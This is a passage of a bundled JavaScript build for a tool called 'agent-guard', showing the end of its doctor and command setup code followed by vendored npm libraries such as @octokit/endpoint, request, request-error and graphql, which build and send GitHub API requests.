}
async function doctorMain(args) {
  if (args.length > 0 && !(args.length === 1 && args[0] === "--json")) {
    process.stderr.write("usage: agent-guard doctor [--json]\n");
    return GUARD_FAILURE_EXIT;
  }
  const report2 = await doctorReport(process.env);
  process.stdout.write(args[0] === "--json" ? JSON.stringify(report2, null, 2) + "\n" : report2.text + "\n");
  return report2.canRun ? 0 : 1;
}
var import_node_child_process3, import_node_fs10, import_node_net2, import_node_os3, import_node_path7, FIRST_PROVIDER_PORT, EGRESS_PORT, TIMEOUT_EXIT;
var init_command = __esm({
  "src/guard/command.ts"() {
    "use strict";
    import_node_child_process3 = require("node:child_process");
    import_node_fs10 = __toESM(require("node:fs"));
    import_node_net2 = __toESM(require("node:net"));
    import_node_os3 = __toESM(require("node:os"));
    import_node_path7 = __toESM(require("node:path"));
    init_audit();
    init_doctor();
    init_egress();
    init_env();
    init_errors();
    init_jail();
    init_options();
    init_providers2();
    init_proxy();
    init_workflowCommands();
    init_options();
    FIRST_PROVIDER_PORT = 41100;
    EGRESS_PORT = 41099;
    TIMEOUT_EXIT = 124;
  }
});

// node_modules/universal-user-agent/dist-node/index.js
var require_dist_node = __commonJS({
  "node_modules/universal-user-agent/dist-node/index.js"(exports2) {
    "use strict";
    Object.defineProperty(exports2, "__esModule", { value: true });
    function getUserAgent() {
      if (typeof navigator === "object" && "userAgent" in navigator) {
        return navigator.userAgent;
      }
      if (typeof process === "object" && process.version !== void 0) {
        return `Node.js/${process.version.substr(1)} (${process.platform}; ${process.arch})`;
      }
      return "<environment undetectable>";
    }
    exports2.getUserAgent = getUserAgent;
  }
});

// node_modules/before-after-hook/lib/register.js
var require_register = __commonJS({
  "node_modules/before-after-hook/lib/register.js"(exports2, module2) {
    module2.exports = register;
    function register(state, name, method, options) {
      if (typeof method !== "function") {
        throw new Error("method for before hook must be a function");
      }
      if (!options) {
        options = {};
      }
      if (Array.isArray(name)) {
        return name.reverse().reduce(function(callback, name2) {
          return register.bind(null, state, name2, callback, options);
        }, method)();
      }
      return Promise.resolve().then(function() {
        if (!state.registry[name]) {
          return method(options);
        }
        return state.registry[name].reduce(function(method2, registered) {
          return registered.hook.bind(null, method2, options);
        }, method)();
      });
    }
  }
});

// node_modules/before-after-hook/lib/add.js
var require_add = __commonJS({
  "node_modules/before-after-hook/lib/add.js"(exports2, module2) {
    module2.exports = addHook;
    function addHook(state, kind, name, hook) {
      var orig = hook;
      if (!state.registry[name]) {
        state.registry[name] = [];
      }
      if (kind === "before") {
        hook = function(method, options) {
          return Promise.resolve().then(orig.bind(null, options)).then(method.bind(null, options));
        };
      }
      if (kind === "after") {
        hook = function(method, options) {
          var result;
          return Promise.resolve().then(method.bind(null, options)).then(function(result_) {
            result = result_;
            return orig(result, options);
          }).then(function() {
            return result;
          });
        };
      }
      if (kind === "error") {
        hook = function(method, options) {
          return Promise.resolve().then(method.bind(null, options)).catch(function(error) {
            return orig(error, options);
          });
        };
      }
      state.registry[name].push({
        hook,
        orig
      });
    }
  }
});

// node_modules/before-after-hook/lib/remove.js
var require_remove = __commonJS({
  "node_modules/before-after-hook/lib/remove.js"(exports2, module2) {
    module2.exports = removeHook;
    function removeHook(state, name, method) {
      if (!state.registry[name]) {
        return;
      }
      var index2 = state.registry[name].map(function(registered) {
        return registered.orig;
      }).indexOf(method);
      if (index2 === -1) {
        return;
      }
      state.registry[name].splice(index2, 1);
    }
  }
});

// node_modules/before-after-hook/index.js
var require_before_after_hook = __commonJS({
  "node_modules/before-after-hook/index.js"(exports2, module2) {
    var register = require_register();
    var addHook = require_add();
    var removeHook = require_remove();
    var bind = Function.bind;
    var bindable = bind.bind(bind);
    function bindApi(hook, state, name) {
      var removeHookRef = bindable(removeHook, null).apply(
        null,
        name ? [state, name] : [state]
      );
      hook.api = { remove: removeHookRef };
      hook.remove = removeHookRef;
      ["before", "error", "after", "wrap"].forEach(function(kind) {
        var args = name ? [state, kind, name] : [state, kind];
        hook[kind] = hook.api[kind] = bindable(addHook, null).apply(null, args);
      });
    }
    function HookSingular() {
      var singularHookName = "h";
      var singularHookState = {
        registry: {}
      };
      var singularHook = register.bind(null, singularHookState, singularHookName);
      bindApi(singularHook, singularHookState, singularHookName);
      return singularHook;
    }
    function HookCollection() {
      var state = {
        registry: {}
      };
      var hook = register.bind(null, state);
      bindApi(hook, state);
      return hook;
    }
    var collectionHookDeprecationMessageDisplayed = false;
    function Hook() {
      if (!collectionHookDeprecationMessageDisplayed) {
        console.warn(
          '[before-after-hook]: "Hook()" repurposing warning, use "Hook.Collection()". Read more: https://git.io/upgrade-before-after-hook-to-1.4'
        );
        collectionHookDeprecationMessageDisplayed = true;
      }
      return HookCollection();
    }
    Hook.Singular = HookSingular.bind();
    Hook.Collection = HookCollection.bind();
    module2.exports = Hook;
    module2.exports.Hook = Hook;
    module2.exports.Singular = Hook.Singular;
    module2.exports.Collection = Hook.Collection;
  }
});

// node_modules/@octokit/endpoint/dist-node/index.js
var require_dist_node2 = __commonJS({
  "node_modules/@octokit/endpoint/dist-node/index.js"(exports2, module2) {
    "use strict";
    var __defProp2 = Object.defineProperty;
    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
    var __getOwnPropNames2 = Object.getOwnPropertyNames;
    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
    var __export2 = (target, all) => {
      for (var name in all)
        __defProp2(target, name, { get: all[name], enumerable: true });
    };
    var __copyProps2 = (to, from, except, desc) => {
      if (from && typeof from === "object" || typeof from === "function") {
        for (let key2 of __getOwnPropNames2(from))
          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
      }
      return to;
    };
    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
    var dist_src_exports = {};
    __export2(dist_src_exports, {
      endpoint: () => endpoint
    });
    module2.exports = __toCommonJS2(dist_src_exports);
    var import_universal_user_agent = require_dist_node();
    var VERSION2 = "9.0.6";
    var userAgent = `octokit-endpoint.js/${VERSION2} ${(0, import_universal_user_agent.getUserAgent)()}`;
    var DEFAULTS = {
      method: "GET",
      baseUrl: "https://api.github.com",
      headers: {
        accept: "application/vnd.github.v3+json",
        "user-agent": userAgent
      },
      mediaType: {
        format: ""
      }
    };
    function lowercaseKeys(object) {
      if (!object) {
        return {};
      }
      return Object.keys(object).reduce((newObj, key2) => {
        newObj[key2.toLowerCase()] = object[key2];
        return newObj;
      }, {});
    }
    function isPlainObject(value) {
      if (typeof value !== "object" || value === null)
        return false;
      if (Object.prototype.toString.call(value) !== "[object Object]")
        return false;
      const proto = Object.getPrototypeOf(value);
      if (proto === null)
        return true;
      const Ctor = Object.prototype.hasOwnProperty.call(proto, "constructor") && proto.constructor;
      return typeof Ctor === "function" && Ctor instanceof Ctor && Function.prototype.call(Ctor) === Function.prototype.call(value);
    }
    function mergeDeep(defaults, options) {
      const result = Object.assign({}, defaults);
      Object.keys(options).forEach((key2) => {
        if (isPlainObject(options[key2])) {
          if (!(key2 in defaults))
            Object.assign(result, { [key2]: options[key2] });
          else
            result[key2] = mergeDeep(defaults[key2], options[key2]);
        } else {
          Object.assign(result, { [key2]: options[key2] });
        }
      });
      return result;
    }
    function removeUndefinedProperties(obj2) {
      for (const key2 in obj2) {
        if (obj2[key2] === void 0) {
          delete obj2[key2];
        }
      }
      return obj2;
    }
    function merge(defaults, route, options) {
      if (typeof route === "string") {
        let [method, url] = route.split(" ");
        options = Object.assign(url ? { method, url } : { url: method }, options);
      } else {
        options = Object.assign({}, route);
      }
      options.headers = lowercaseKeys(options.headers);
      removeUndefinedProperties(options);
      removeUndefinedProperties(options.headers);
      const mergedOptions = mergeDeep(defaults || {}, options);
      if (options.url === "/graphql") {
        if (defaults && defaults.mediaType.previews?.length) {
          mergedOptions.mediaType.previews = defaults.mediaType.previews.filter(
            (preview) => !mergedOptions.mediaType.previews.includes(preview)
          ).concat(mergedOptions.mediaType.previews);
        }
        mergedOptions.mediaType.previews = (mergedOptions.mediaType.previews || []).map((preview) => preview.replace(/-preview/, ""));
      }
      return mergedOptions;
    }
    function addQueryParameters(url, parameters) {
      const separator = /\?/.test(url) ? "&" : "?";
      const names = Object.keys(parameters);
      if (names.length === 0) {
        return url;
      }
      return url + separator + names.map((name) => {
        if (name === "q") {
          return "q=" + parameters.q.split("+").map(encodeURIComponent).join("+");
        }
        return `${name}=${encodeURIComponent(parameters[name])}`;
      }).join("&");
    }
    var urlVariableRegex = /\{[^{}}]+\}/g;
    function removeNonChars(variableName) {
      return variableName.replace(/(?:^\W+)|(?:(?<!\W)\W+$)/g, "").split(/,/);
    }
    function extractUrlVariableNames(url) {
      const matches = url.match(urlVariableRegex);
      if (!matches) {
        return [];
      }
      return matches.map(removeNonChars).reduce((a, b) => a.concat(b), []);
    }
    function omit(object, keysToOmit) {
      const result = { __proto__: null };
      for (const key2 of Object.keys(object)) {
        if (keysToOmit.indexOf(key2) === -1) {
          result[key2] = object[key2];
        }
      }
      return result;
    }
    function encodeReserved(str3) {
      return str3.split(/(%[0-9A-Fa-f]{2})/g).map(function(part) {
        if (!/%[0-9A-Fa-f]/.test(part)) {
          part = encodeURI(part).replace(/%5B/g, "[").replace(/%5D/g, "]");
        }
        return part;
      }).join("");
    }
    function encodeUnreserved(str3) {
      return encodeURIComponent(str3).replace(/[!'()*]/g, function(c) {
        return "%" + c.charCodeAt(0).toString(16).toUpperCase();
      });
    }
    function encodeValue(operator, value, key2) {
      value = operator === "+" || operator === "#" ? encodeReserved(value) : encodeUnreserved(value);
      if (key2) {
        return encodeUnreserved(key2) + "=" + value;
      } else {
        return value;
      }
    }
    function isDefined(value) {
      return value !== void 0 && value !== null;
    }
    function isKeyOperator(operator) {
      return operator === ";" || operator === "&" || operator === "?";
    }
    function getValues(context, operator, key2, modifier) {
      var value = context[key2], result = [];
      if (isDefined(value) && value !== "") {
        if (typeof value === "string" || typeof value === "number" || typeof value === "boolean") {
          value = value.toString();
          if (modifier && modifier !== "*") {
            value = value.substring(0, parseInt(modifier, 10));
          }
          result.push(
            encodeValue(operator, value, isKeyOperator(operator) ? key2 : "")
          );
        } else {
          if (modifier === "*") {
            if (Array.isArray(value)) {
              value.filter(isDefined).forEach(function(value2) {
                result.push(
                  encodeValue(operator, value2, isKeyOperator(operator) ? key2 : "")
                );
              });
            } else {
              Object.keys(value).forEach(function(k) {
                if (isDefined(value[k])) {
                  result.push(encodeValue(operator, value[k], k));
                }
              });
            }
          } else {
            const tmp = [];
            if (Array.isArray(value)) {
              value.filter(isDefined).forEach(function(value2) {
                tmp.push(encodeValue(operator, value2));
              });
            } else {
              Object.keys(value).forEach(function(k) {
                if (isDefined(value[k])) {
                  tmp.push(encodeUnreserved(k));
                  tmp.push(encodeValue(operator, value[k].toString()));
                }
              });
            }
            if (isKeyOperator(operator)) {
              result.push(encodeUnreserved(key2) + "=" + tmp.join(","));
            } else if (tmp.length !== 0) {
              result.push(tmp.join(","));
            }
          }
        }
      } else {
        if (operator === ";") {
          if (isDefined(value)) {
            result.push(encodeUnreserved(key2));
          }
        } else if (value === "" && (operator === "&" || operator === "?")) {
          result.push(encodeUnreserved(key2) + "=");
        } else if (value === "") {
          result.push("");
        }
      }
      return result;
    }
    function parseUrl(template) {
      return {
        expand: expand.bind(null, template)
      };
    }
    function expand(template, context) {
      var operators = ["+", "#", ".", "/", ";", "?", "&"];
      template = template.replace(
        /\{([^\{\}]+)\}|([^\{\}]+)/g,
        function(_, expression, literal) {
          if (expression) {
            let operator = "";
            const values = [];
            if (operators.indexOf(expression.charAt(0)) !== -1) {
              operator = expression.charAt(0);
              expression = expression.substr(1);
            }
            expression.split(/,/g).forEach(function(variable) {
              var tmp = /([^:\*]*)(?::(\d+)|(\*))?/.exec(variable);
              values.push(getValues(context, operator, tmp[1], tmp[2] || tmp[3]));
            });
            if (operator && operator !== "+") {
              var separator = ",";
              if (operator === "?") {
                separator = "&";
              } else if (operator !== "#") {
                separator = operator;
              }
              return (values.length !== 0 ? operator : "") + values.join(separator);
            } else {
              return values.join(",");
            }
          } else {
            return encodeReserved(literal);
          }
        }
      );
      if (template === "/") {
        return template;
      } else {
        return template.replace(/\/$/, "");
      }
    }
    function parse2(options) {
      let method = options.method.toUpperCase();
      let url = (options.url || "/").replace(/:([a-z]\w+)/g, "{$1}");
      let headers = Object.assign({}, options.headers);
      let body;
      let parameters = omit(options, [
        "method",
        "baseUrl",
        "url",
        "headers",
        "request",
        "mediaType"
      ]);
      const urlVariableNames = extractUrlVariableNames(url);
      url = parseUrl(url).expand(parameters);
      if (!/^http/.test(url)) {
        url = options.baseUrl + url;
      }
      const omittedParameters = Object.keys(options).filter((option) => urlVariableNames.includes(option)).concat("baseUrl");
      const remainingParameters = omit(parameters, omittedParameters);
      const isBinaryRequest = /application\/octet-stream/i.test(headers.accept);
      if (!isBinaryRequest) {
        if (options.mediaType.format) {
          headers.accept = headers.accept.split(/,/).map(
            (format) => format.replace(
              /application\/vnd(\.\w+)(\.v3)?(\.\w+)?(\+json)?$/,
              `application/vnd$1$2.${options.mediaType.format}`
            )
          ).join(",");
        }
        if (url.endsWith("/graphql")) {
          if (options.mediaType.previews?.length) {
            const previewsFromAcceptHeader = headers.accept.match(/(?<![\w-])[\w-]+(?=-preview)/g) || [];
            headers.accept = previewsFromAcceptHeader.concat(options.mediaType.previews).map((preview) => {
              const format = options.mediaType.format ? `.${options.mediaType.format}` : "+json";
              return `application/vnd.github.${preview}-preview${format}`;
            }).join(",");
          }
        }
      }
      if (["GET", "HEAD"].includes(method)) {
        url = addQueryParameters(url, remainingParameters);
      } else {
        if ("data" in remainingParameters) {
          body = remainingParameters.data;
        } else {
          if (Object.keys(remainingParameters).length) {
            body = remainingParameters;
          }
        }
      }
      if (!headers["content-type"] && typeof body !== "undefined") {
        headers["content-type"] = "application/json; charset=utf-8";
      }
      if (["PATCH", "PUT"].includes(method) && typeof body === "undefined") {
        body = "";
      }
      return Object.assign(
        { method, url, headers },
        typeof body !== "undefined" ? { body } : null,
        options.request ? { request: options.request } : null
      );
    }
    function endpointWithDefaults(defaults, route, options) {
      return parse2(merge(defaults, route, options));
    }
    function withDefaults(oldDefaults, newDefaults) {
      const DEFAULTS2 = merge(oldDefaults, newDefaults);
      const endpoint2 = endpointWithDefaults.bind(null, DEFAULTS2);
      return Object.assign(endpoint2, {
        DEFAULTS: DEFAULTS2,
        defaults: withDefaults.bind(null, DEFAULTS2),
        merge: merge.bind(null, DEFAULTS2),
        parse: parse2
      });
    }
    var endpoint = withDefaults(null, DEFAULTS);
  }
});

// node_modules/deprecation/dist-node/index.js
var require_dist_node3 = __commonJS({
  "node_modules/deprecation/dist-node/index.js"(exports2) {
    "use strict";
    Object.defineProperty(exports2, "__esModule", { value: true });
    var Deprecation = class extends Error {
      constructor(message) {
        super(message);
        if (Error.captureStackTrace) {
          Error.captureStackTrace(this, this.constructor);
        }
        this.name = "Deprecation";
      }
    };
    exports2.Deprecation = Deprecation;
  }
});

// node_modules/wrappy/wrappy.js
var require_wrappy = __commonJS({
  "node_modules/wrappy/wrappy.js"(exports2, module2) {
    module2.exports = wrappy;
    function wrappy(fn, cb) {
      if (fn && cb) return wrappy(fn)(cb);
      if (typeof fn !== "function")
        throw new TypeError("need wrapper function");
      Object.keys(fn).forEach(function(k) {
        wrapper[k] = fn[k];
      });
      return wrapper;
      function wrapper() {
        var args = new Array(arguments.length);
        for (var i = 0; i < args.length; i++) {
          args[i] = arguments[i];
        }
        var ret = fn.apply(this, args);
        var cb2 = args[args.length - 1];
        if (typeof ret === "function" && ret !== cb2) {
          Object.keys(cb2).forEach(function(k) {
            ret[k] = cb2[k];
          });
        }
        return ret;
      }
    }
  }
});

// node_modules/once/once.js
var require_once = __commonJS({
  "node_modules/once/once.js"(exports2, module2) {
    var wrappy = require_wrappy();
    module2.exports = wrappy(once);
    module2.exports.strict = wrappy(onceStrict);
    once.proto = once(function() {
      Object.defineProperty(Function.prototype, "once", {
        value: function() {
          return once(this);
        },
        configurable: true
      });
      Object.defineProperty(Function.prototype, "onceStrict", {
        value: function() {
          return onceStrict(this);
        },
        configurable: true
      });
    });
    function once(fn) {
      var f = function() {
        if (f.called) return f.value;
        f.called = true;
        return f.value = fn.apply(this, arguments);
      };
      f.called = false;
      return f;
    }
    function onceStrict(fn) {
      var f = function() {
        if (f.called)
          throw new Error(f.onceError);
        f.called = true;
        return f.value = fn.apply(this, arguments);
      };
      var name = fn.name || "Function wrapped with `once`";
      f.onceError = name + " shouldn't be called more than once";
      f.called = false;
      return f;
    }
  }
});

// node_modules/@octokit/request-error/dist-node/index.js
var require_dist_node4 = __commonJS({
  "node_modules/@octokit/request-error/dist-node/index.js"(exports2, module2) {
    "use strict";
    var __create2 = Object.create;
    var __defProp2 = Object.defineProperty;
    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
    var __getOwnPropNames2 = Object.getOwnPropertyNames;
    var __getProtoOf2 = Object.getPrototypeOf;
    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
    var __export2 = (target, all) => {
      for (var name in all)
        __defProp2(target, name, { get: all[name], enumerable: true });
    };
    var __copyProps2 = (to, from, except, desc) => {
      if (from && typeof from === "object" || typeof from === "function") {
        for (let key2 of __getOwnPropNames2(from))
          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
      }
      return to;
    };
    var __toESM2 = (mod, isNodeMode, target) => (target = mod != null ? __create2(__getProtoOf2(mod)) : {}, __copyProps2(
      // If the importer is in node compatibility mode or this is not an ESM
      // file that has been converted to a CommonJS file using a Babel-
      // compatible transform (i.e. "__esModule" has not been set), then set
      // "default" to the CommonJS "module.exports" for node compatibility.
      isNodeMode || !mod || !mod.__esModule ? __defProp2(target, "default", { value: mod, enumerable: true }) : target,
      mod
    ));
    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
    var dist_src_exports = {};
    __export2(dist_src_exports, {
      RequestError: () => RequestError
    });
    module2.exports = __toCommonJS2(dist_src_exports);
    var import_deprecation = require_dist_node3();
    var import_once = __toESM2(require_once());
    var logOnceCode = (0, import_once.default)((deprecation) => console.warn(deprecation));
    var logOnceHeaders = (0, import_once.default)((deprecation) => console.warn(deprecation));
    var RequestError = class extends Error {
      constructor(message, statusCode, options) {
        super(message);
        if (Error.captureStackTrace) {
          Error.captureStackTrace(this, this.constructor);
        }
        this.name = "HttpError";
        this.status = statusCode;
        let headers;
        if ("headers" in options && typeof options.headers !== "undefined") {
          headers = options.headers;
        }
        if ("response" in options) {
          this.response = options.response;
          headers = options.response.headers;
        }
        const requestCopy = Object.assign({}, options.request);
        if (options.request.headers.authorization) {
          requestCopy.headers = Object.assign({}, options.request.headers, {
            authorization: options.request.headers.authorization.replace(
              /(?<! ) .*$/,
              " [REDACTED]"
            )
          });
        }
        requestCopy.url = requestCopy.url.replace(/\bclient_secret=\w+/g, "client_secret=[REDACTED]").replace(/\baccess_token=\w+/g, "access_token=[REDACTED]");
        this.request = requestCopy;
        Object.defineProperty(this, "code", {
          get() {
            logOnceCode(
              new import_deprecation.Deprecation(
                "[@octokit/request-error] `error.code` is deprecated, use `error.status`."
              )
            );
            return statusCode;
          }
        });
        Object.defineProperty(this, "headers", {
          get() {
            logOnceHeaders(
              new import_deprecation.Deprecation(
                "[@octokit/request-error] `error.headers` is deprecated, use `error.response.headers`."
              )
            );
            return headers || {};
          }
        });
      }
    };
  }
});

// node_modules/@octokit/request/dist-node/index.js
var require_dist_node5 = __commonJS({
  "node_modules/@octokit/request/dist-node/index.js"(exports2, module2) {
    "use strict";
    var __defProp2 = Object.defineProperty;
    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
    var __getOwnPropNames2 = Object.getOwnPropertyNames;
    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
    var __export2 = (target, all) => {
      for (var name in all)
        __defProp2(target, name, { get: all[name], enumerable: true });
    };
    var __copyProps2 = (to, from, except, desc) => {
      if (from && typeof from === "object" || typeof from === "function") {
        for (let key2 of __getOwnPropNames2(from))
          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
      }
      return to;
    };
    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
    var dist_src_exports = {};
    __export2(dist_src_exports, {
      request: () => request
    });
    module2.exports = __toCommonJS2(dist_src_exports);
    var import_endpoint = require_dist_node2();
    var import_universal_user_agent = require_dist_node();
    var VERSION2 = "8.4.1";
    function isPlainObject(value) {
      if (typeof value !== "object" || value === null)
        return false;
      if (Object.prototype.toString.call(value) !== "[object Object]")
        return false;
      const proto = Object.getPrototypeOf(value);
      if (proto === null)
        return true;
      const Ctor = Object.prototype.hasOwnProperty.call(proto, "constructor") && proto.constructor;
      return typeof Ctor === "function" && Ctor instanceof Ctor && Function.prototype.call(Ctor) === Function.prototype.call(value);
    }
    var import_request_error = require_dist_node4();
    function getBufferResponse(response) {
      return response.arrayBuffer();
    }
    function fetchWrapper(requestOptions) {
      var _a, _b, _c, _d;
      const log = requestOptions.request && requestOptions.request.log ? requestOptions.request.log : console;
      const parseSuccessResponseBody = ((_a = requestOptions.request) == null ? void 0 : _a.parseSuccessResponseBody) !== false;
      if (isPlainObject(requestOptions.body) || Array.isArray(requestOptions.body)) {
        requestOptions.body = JSON.stringify(requestOptions.body);
      }
      let headers = {};
      let status;
      let url;
      let { fetch } = globalThis;
      if ((_b = requestOptions.request) == null ? void 0 : _b.fetch) {
        fetch = requestOptions.request.fetch;
      }
      if (!fetch) {
        throw new Error(
          "fetch is not set. Please pass a fetch implementation as new Octokit({ request: { fetch }}). Learn more at https://github.com/octokit/octokit.js/#fetch-missing"
        );
      }
      return fetch(requestOptions.url, {
        method: requestOptions.method,
        body: requestOptions.body,
        redirect: (_c = requestOptions.request) == null ? void 0 : _c.redirect,
        headers: requestOptions.headers,
        signal: (_d = requestOptions.request) == null ? void 0 : _d.signal,
        // duplex must be set if request.body is ReadableStream or Async Iterables.
        // See https://fetch.spec.whatwg.org/#dom-requestinit-duplex.
        ...requestOptions.body && { duplex: "half" }
      }).then(async (response) => {
        url = response.url;
        status = response.status;
        for (const keyAndValue of response.headers) {
          headers[keyAndValue[0]] = keyAndValue[1];
        }
        if ("deprecation" in headers) {
          const matches = headers.link && headers.link.match(/<([^<>]+)>; rel="deprecation"/);
          const deprecationLink = matches && matches.pop();
          log.warn(
            `[@octokit/request] "${requestOptions.method} ${requestOptions.url}" is deprecated. It is scheduled to be removed on ${headers.sunset}${deprecationLink ? `. See ${deprecationLink}` : ""}`
          );
        }
        if (status === 204 || status === 205) {
          return;
        }
        if (requestOptions.method === "HEAD") {
          if (status < 400) {
            return;
          }
          throw new import_request_error.RequestError(response.statusText, status, {
            response: {
              url,
              status,
              headers,
              data: void 0
            },
            request: requestOptions
          });
        }
        if (status === 304) {
          throw new import_request_error.RequestError("Not modified", status, {
            response: {
              url,
              status,
              headers,
              data: await getResponseData(response)
            },
            request: requestOptions
          });
        }
        if (status >= 400) {
          const data = await getResponseData(response);
          const error = new import_request_error.RequestError(toErrorMessage(data), status, {
            response: {
              url,
              status,
              headers,
              data
            },
            request: requestOptions
          });
          throw error;
        }
        return parseSuccessResponseBody ? await getResponseData(response) : response.body;
      }).then((data) => {
        return {
          status,
          url,
          headers,
          data
        };
      }).catch((error) => {
        if (error instanceof import_request_error.RequestError)
          throw error;
        else if (error.name === "AbortError")
          throw error;
        let message = error.message;
        if (error.name === "TypeError" && "cause" in error) {
          if (error.cause instanceof Error) {
            message = error.cause.message;
          } else if (typeof error.cause === "string") {
            message = error.cause;
          }
        }
        throw new import_request_error.RequestError(message, 500, {
          request: requestOptions
        });
      });
    }
    async function getResponseData(response) {
      const contentType = response.headers.get("content-type");
      if (/application\/json/.test(contentType)) {
        return response.json().catch(() => response.text()).catch(() => "");
      }
      if (!contentType || /^text\/|charset=utf-8$/.test(contentType)) {
        return response.text();
      }
      return getBufferResponse(response);
    }
    function toErrorMessage(data) {
      if (typeof data === "string")
        return data;
      let suffix;
      if ("documentation_url" in data) {
        suffix = ` - ${data.documentation_url}`;
      } else {
        suffix = "";
      }
      if ("message" in data) {
        if (Array.isArray(data.errors)) {
          return `${data.message}: ${data.errors.map(JSON.stringify).join(", ")}${suffix}`;
        }
        return `${data.message}${suffix}`;
      }
      return `Unknown error: ${JSON.stringify(data)}`;
    }
    function withDefaults(oldEndpoint, newDefaults) {
      const endpoint2 = oldEndpoint.defaults(newDefaults);
      const newApi = function(route, parameters) {
        const endpointOptions = endpoint2.merge(route, parameters);
        if (!endpointOptions.request || !endpointOptions.request.hook) {
          return fetchWrapper(endpoint2.parse(endpointOptions));
        }
        const request2 = (route2, parameters2) => {
          return fetchWrapper(
            endpoint2.parse(endpoint2.merge(route2, parameters2))
          );
        };
        Object.assign(request2, {
          endpoint: endpoint2,
          defaults: withDefaults.bind(null, endpoint2)
        });
        return endpointOptions.request.hook(request2, endpointOptions);
      };
      return Object.assign(newApi, {
        endpoint: endpoint2,
        defaults: withDefaults.bind(null, endpoint2)
      });
    }
    var request = withDefaults(import_endpoint.endpoint, {
      headers: {
        "user-agent": `octokit-request.js/${VERSION2} ${(0, import_universal_user_agent.getUserAgent)()}`
      }
    });
  }
});

// node_modules/@octokit/graphql/dist-node/index.js
var require_dist_node6 = __commonJS({
  "node_modules/@octokit/graphql/dist-node/index.js"(exports2, module2) {
    "use strict";
    var __defProp2 = Object.defineProperty;
    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
    var __getOwnPropNames2 = Object.getOwnPropertyNames;
    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
    var __export2 = (target, all) => {
      for (var name in all)
        __defProp2(target, name, { get: all[name], enumerable: true });
    };
    var __copyProps2 = (to, from, except, desc) => {
      if (from && typeof from === "object" || typeof from === "function") {
        for (let key2 of __getOwnPropNames2(from))
          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
      }
      return to;
    };
    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
    var index_exports = {};
    __export2(index_exports, {
      GraphqlResponseError: () => GraphqlResponseError,
      graphql: () => graphql2,
      withCustomRequest: () => withCustomRequest
    });
    module2.exports = __toCommonJS2(index_exports);
    var import_request3 = require_dist_node5();
    var import_universal_user_agent = require_dist_node();
    var VERSION2 = "7.1.1";
    var import_request2 = require_dist_node5();
    var import_request = require_dist_node5();
    function _buildMessageForResponseErrors(data) {
      return `Request failed due to following response errors:
` + data.errors.map((e) => ` - ${e.message}`).join("\n");
    }
    var GraphqlResponseError = class extends Error {
      constructor(request2, headers, response) {
        super(_buildMessageForResponseErrors(response));
        this.request = request2;
        this.headers = headers;
        this.response = response;
        this.name = "GraphqlResponseError";
        this.errors = response.errors;
        this.data = response.data;
        if (Error.captureStackTrace) {
          Error.captureStackTrace(this, this.constructor);
        }
      }
    };
    var NON_VARIABLE_OPTIONS = [
      "method",
      "baseUrl",
      "url",
      "headers",
      "request",
      "query",
      "mediaType"
    ];
    var FORBIDDEN_VARIABLE_OPTIONS = ["query", "method", "url"];
    var GHES_V3_SUFFIX_REGEX = /\/api\/v3\/?$/;
    function graphql(request2, query, options) {
      if (options) {
        if (typeof query === "string" && "query" in options) {
          return Promise.reject(
            new Error(`[@octokit/graphql] "query" cannot be used as variable name`)
          );
        }
        for (const key2 in options) {
          if (!FORBIDDEN_VARIABLE_OPTIONS.includes(key2)) continue;
          return Promise.reject(
            new Error(
              `[@octokit/graphql] "${key2}" cannot be used as variable name`
            )
          );
        }
      }
      const parsedOptions = typeof query === "string" ? Object.assign({ query }, options) : query;
      const requestOptions = Object.keys(
        parsedOptions
      ).reduce((result, key2) => {
        if (NON_VARIABLE_OPTIONS.includes(key2)) {
          result[key2] = parsedOptions[key2];
          return result;
        }
        if (!result.variables) {
          result.variables = {};
        }
        result.variables[key2] = parsedOptions[key2];
        return result;
      }, {});
      const baseUrl = parsedOptions.baseUrl || request2.endpoint.DEFAULTS.baseUrl;
      if (GHES_V3_SUFFIX_REGEX.test(baseUrl)) {
        requestOptions.url = baseUrl.replace(GHES_V3_SUFFIX_REGEX, "/api/graphql");
      }
      return request2(requestOptions).then((response) => {
        if (response.data.errors) {
          const headers = {};
          for (const key2 of Object.keys(response.headers)) {
            headers[key2] = response.headers[key2];
          }
          throw new GraphqlResponseError(
            requestOptions,
            headers,
            response.data
          );
        }
        return response.data.data;
      });
    }
    function withDefaults(request2, newDefaults) {
      const newRequest = request2.defaults(newDefaults);
      const newApi = (query, options) => {
        return graphql(newRequest, query, options);
      };
      return Object.assign(newApi, {
        defaults: withDefaults.bind(null, newRequest),
        endpoint: newRequest.endpoint
      });
    }
    var graphql2 = withDefaults(import_request3.request, {
      headers: {
        "user-agent": `octokit-graphql.js/${VERSION2} ${(0, import_universal_user_agent.getUserAgent)()}`
      },
      method: "POST",
      url: "/graphql"
    });
    function withCustomRequest(customRequest) {
      return withDefaults(customRequest, {
        method: "POST",
        url: "/graphql"
      });
    }
  }
});

// node_modules/@octokit/auth-token/dist-node/index.js
var require_dist_node7 = __commonJS({
  "node_modules/@octokit/auth-token/dist-node/index.js"(exports2, module2) {
    "use strict";
    var __defProp2 = Object.defineProperty;
    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
